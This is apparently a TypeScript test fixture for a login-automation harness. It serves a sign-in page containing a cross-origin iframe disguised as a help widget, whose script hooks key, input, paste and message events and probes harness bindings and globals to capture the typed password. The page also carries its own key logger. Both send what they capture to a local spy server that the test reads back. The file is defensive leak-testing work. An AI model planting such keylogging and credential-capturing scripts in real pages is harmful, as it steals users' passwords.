/**
 * A login page with a hostile neighbour: the form embeds a cross-origin iframe (its own server on
 * another port) whose script tries, in a loop, every way a page script could get hold of the password
 * while the harness types it: a binding or global of the harness in its own window or its parent's,
 * input/key/paste/message events in its own frame and (were it same-origin) the top's. The main
 * frame itself listens to key events too, as a key logger on the login page would. Everything seen is
 * reported to the spy's server, which the test reads back.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { page, type ForeignStep } from './foreign-screens/server.js';
import type { Credentials } from './foreign-screens/screens.js';

export interface Spy {
  /** the origin the iframe is served from */
  origin: string;
  /** every report the spy and the key logger sent (never print: may hold the password) */
  reports(): string[];
  close(): Promise<void>;
}

/** What the iframe runs: each attempt that yields anything is reported, with a heartbeat to prove it ran. */
function spyScript(report: string): string {
  return `
const report = (what) => fetch(${JSON.stringify(report)}, { method: 'POST', body: String(what), mode: 'no-cors' }).catch(() => {});
const names = ['__loginHarnessSecret', '__playwright__binding__', '__pwBinding'];
const targets = () => { const list = [window]; try { list.push(window.parent); } catch {} try { list.push(window.top); } catch {} return list; };
const listen = (where, label) => {
  for (const kind of ['input', 'keydown', 'keypress', 'keyup', 'beforeinput', 'paste', 'message', 'change']) {
    try { where.addEventListener(kind, (e) => report(label + ' ' + kind + ' ' + (e.key ?? '') + (e.data ?? '') + (typeof e.target?.value === 'string' ? e.target.value : '') + (typeof e.data === 'object' ? JSON.stringify(e.data) : '')), true); } catch {}
  }
};
listen(window, 'frame');
try { listen(window.top.document, 'top'); report('top document reachable'); } catch { }
setInterval(async () => {
  report('heartbeat');
  for (const where of targets()) {
    for (const name of names) {
      try {
        const fn = where[name];
        if (typeof fn === 'function') report(name + ' ' + (await fn('password')) + ' ' + (await fn({ name: 'password' })));
      } catch {}
    }
    try { for (const key of Object.keys(where)) if (key.toLowerCase().includes('secret') || key.includes('binding')) report('global ' + key); } catch {}
  }
}, 20);
`;
}

/** The key logger of the login page itself: key events carry the characters typed. */
function keyLogger(report: string): string {
  return `<script>
const keys = [];
for (const kind of ['keydown', 'keypress', 'keyup']) document.addEventListener(kind, (e) => { keys.push(e.key); fetch(${JSON.stringify(report)}, { method: 'POST', body: 'main ' + kind + ' ' + keys.join('') }).catch(() => {}); }, true);
</script>`;
}

export async function startSpy(): Promise<Spy> {
  const reports: string[] = [];
  let origin = '';
  const server: Server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://localhost');
    if (url.pathname === '/report') {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        reports.push(Buffer.concat(chunks).toString('utf8'));
        response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      });
      return;
    }
    response
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      .end(`<!doctype html><title>widget</title><p>Help widget</p><input name="search"><script>${spyScript(`${origin}/report`)}</script>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  // "localhost" while the login service is 127.0.0.1: another origin (another port as well).
  origin = `http://localhost:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    reports: () => [...reports],
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** One-step credentials screen with the spy's iframe and the page's own key logger. */
export function credentialsWithSpy(user: Credentials, spy: Spy): ForeignStep {
  return {
    render: ({ action, error }) =>
      page(
        'Sign in',
        `${keyLogger(`${spy.origin}/report`)}<h1>Sign in</h1>${error === undefined ? '' : `<div role="alert">${error}</div>`}
<form method="post" action="${action}">
<label for="u">Username</label><input id="u" name="username" type="text" autocomplete="username">
<label for="p">Password</label><input id="p" name="password" type="password" autocomplete="current-password">
<button type="submit">Sign in</button></form>
<iframe src="${spy.origin}/widget" title="help" style="width:300px;height:120px"></iframe>`,
      ),
    accept: (form) => (form.get('username') === user.username && form.get('password') === user.password ? undefined : 'Incorrect username or password.'),
  };
}
